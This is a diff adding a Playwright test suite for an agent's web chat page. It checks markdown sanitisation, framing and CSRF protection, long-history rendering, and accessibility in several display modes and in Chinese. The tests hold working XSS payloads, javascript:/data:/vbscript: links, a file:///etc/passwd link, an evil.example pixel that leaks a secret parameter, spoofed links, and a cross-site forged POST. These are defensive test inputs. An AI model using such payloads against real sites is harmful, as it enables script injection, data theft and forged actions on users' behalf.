@@ -1,0 +1,161 @@
+"""The page under attack, with long histories, on small screens, for assistive technology, in Chinese."""
+
+import json
+from typing import Any
+
+import pytest
+
+from nanobot.testing import calls
+from tests.fakes.tools import command, page
+from tests.support.browser import Tabs, page_url, say
+from tests.support.running_gateway import OpenGateway
+
+expect: Any = pytest.importorskip("playwright.async_api", reason="playwright is not installed").expect
+expect.set_options(timeout=15_000)
+Axe: Any = pytest.importorskip("axe_playwright_python.async_playwright", reason="axe is not installed").Axe
+pytestmark = [pytest.mark.asyncio(loop_scope="module"), pytest.mark.xdist_group("browser")]
+
+ATTACKS = """\
+<script>window.hacked = 1</script>
+<img src=x onerror="window.hacked = 2">
+<iframe src="https://evil.example/"></iframe>
+
+[run](javascript:window.hacked=3) [spaced]( java\tscript:window.hacked=4)
+[data](data:text/html,<script>window.hacked=5</script>)
+[upper](JAVASCRIPT:window.hacked=6) [file](file:///etc/passwd) [blob](blob:https://x/y) <javascript:window.hacked=7>
+
+![pixel](https://evil.example/pixel.png?secret=1) ![inline](data:image/svg+xml,<svg onload=window.hacked=8>)
+[![nested](https://evil.example/a.png)](https://evil.example/b)
+
+[https://bank.example/login](https://evil.example/login) [bank.example](https://evil.example/)
+[right\u202eexe.cod](https://evil.example/c)
+
+| <b onclick="window.hacked=9">a</b> | b |
+| --- | --- |
+| `<script>` | [x](vbscript:window.hacked=10) |
+
+```html
+<script>window.hacked = 11</script>
+```
+
+<section class="approval"><button>Yes, once</button></section>
+"""
+
+
+async def test_hostile_markdown_runs_nothing_fetches_nothing_and_hides_no_address(running: OpenGateway, tabs: Tabs):
+    async with running(ATTACKS) as here:
+        tab = await tabs.open(here)
+        await say(tab, "Show me")
+        await expect(tab.locator(".message.turn .result")).to_be_visible()
+        schemes = await tab.locator(".message.turn a").evaluate_all(
+            "links => links.map(link => new URL(link.href).protocol)"
+        )
+
+        assert await tab.evaluate("window.hacked") is None
+        assert set(schemes) == {"https:"}
+        assert await tab.locator(".message.turn :is(img, iframe, script, form, section)").count() == 0
+        assert await tab.locator(".message.turn button", has_text="Yes").count() == 0
+        shown = await tab.inner_text(".message.turn")
+        assert shown.count("(evil.example)") == 2
+        assert "pixel (picture on evil.example)" in shown
+    assert tabs.problems == []
+
+
+async def test_another_site_can_neither_frame_the_page_nor_write_for_its_owner(running: OpenGateway, tabs: Tabs):
+    async with running() as here:
+        tab = await tabs.open(here)
+        stranger = await tab.context.new_page()
+        url = page_url(here)
+        document = f"""<iframe src="{url}/"></iframe><script>
+            fetch("{url}/api/sessions/web:x/messages", {{method: "POST", credentials: "include", mode: "no-cors",
+              headers: {{"content-type": "text/plain"}}, body: '{{"id": "12345678", "text": "hacked"}}'}})
+              .finally(() => document.title = "sent")
+            </script>"""
+        await stranger.route(
+            "http://stranger.example/", lambda route: route.fulfill(body=document, content_type="text/html")
+        )
+        await stranger.goto("http://stranger.example/")
+        await stranger.wait_for_function("document.title === 'sent'")
+        framed = stranger.frames[1]
+
+        assert await framed.locator("#app").count() == 0
+        assert here.model.requests == []
+
+
+async def test_a_long_history_opens_at_its_end_and_is_drawn_only_near_the_screen(running: OpenGateway, tabs: Tabs):
+    async with running() as here:
+        session = here.gateway.runtime.sessions.get_or_create("web:long")
+        for number in range(2500):
+            session.add_message("user", f"question {number}", turn_id=f"t{number}")
+            session.add_message("assistant", f"answer **{number}** with some words in it", turn_id=f"t{number}")
+        here.gateway.runtime.sessions.save(session)
+        tab = await tabs.open(here, "/chat/web%3Along")
+        await expect(tab.get_by_text("answer 2499")).to_be_in_viewport()
+        most = 0
+        for _ in range(300):
+            await tab.evaluate("document.querySelector('.scroll').scrollTop = 0")
+            most = max(most, await tab.locator(".message").count())
+            if await tab.get_by_text("question 0", exact=True).count():
+                break
+            await tab.wait_for_timeout(20)
+
+        await expect(tab.get_by_text("question 0", exact=True)).to_be_visible()
+        assert most < 700
+        await tab.get_by_role("button", name="Newest").click()
+        await expect(tab.get_by_text("answer 2499")).to_be_in_viewport()
+
+
+STATES: dict[str, dict[str, Any]] = {
+    "light": {},
+    "dark": {"color_scheme": "dark"},
+    "forced-colours": {"forced_colors": "active"},
+    "narrow": {"viewport": {"width": 320, "height": 640}, "reduced_motion": "reduce"},
+    "chinese": {"locale": "zh-CN"},
+}
+
+EVERYTHING = """## A plan
+
+1. One **bold** step with `code`
+2. [A link](https://example.org/)
+
+| Train | Fare |
+| --- | --- |
+| Hikari | 13320 |
+
+```python
+print("a line of code that is far longer than the screen of a telephone is wide, so that it has to scroll")
+```
+
+> quoted averyveryverylongwordthatdoesnotfitintoanarrowcolumnandhastobebrokensomewhereinitsmiddle
+"""
+
+
+@pytest.mark.parametrize("state", STATES)
+async def test_the_page_is_accessible_and_fits_in_every_state(running: OpenGateway, tabs: Tabs, state: str):
+    script = (EVERYTHING, calls(("web_page", {"url": "https://example.org/a"})), calls(("run", {"target": "make"})))
+    async with running(*script) as here:
+        for tool in (page(), command()):
+            here.gateway.runtime.tools.register(tool)
+        tab = await tabs.open(here, **STATES[state])
+        await check(tab)
+        await say(tab, "Plan it")
+        await expect(tab.locator(".message.turn .result")).to_be_visible()
+        await say(tab, "Run it")
+        await expect(tab.locator(".approval")).to_be_visible()
+        await tab.locator(".step summary").first.click()
+        await tab.wait_for_timeout(450)
+        await check(tab)
+        await tab.keyboard.press("Control+k")
+        await expect(tab.locator("dialog")).to_be_visible()
+        await check(tab)
+        if state == "chinese":
+            assert await tab.evaluate("document.documentElement.lang") == "zh-Hans"
+            await expect(tab.get_by_role("button", name="允许一次", include_hidden=True)).to_have_count(1)
+
+
+async def check(tab: Any) -> None:
+    """No finding of axe, and nothing wider than the screen."""
+    results = await Axe().run(tab)
+    found = [f"{each['id']}: {[node['html'] for node in each['nodes']]}" for each in results.response["violations"]]
+    assert found == [], json.dumps(found, indent=1)
+    assert await tab.evaluate("document.documentElement.scrollWidth <= innerWidth")
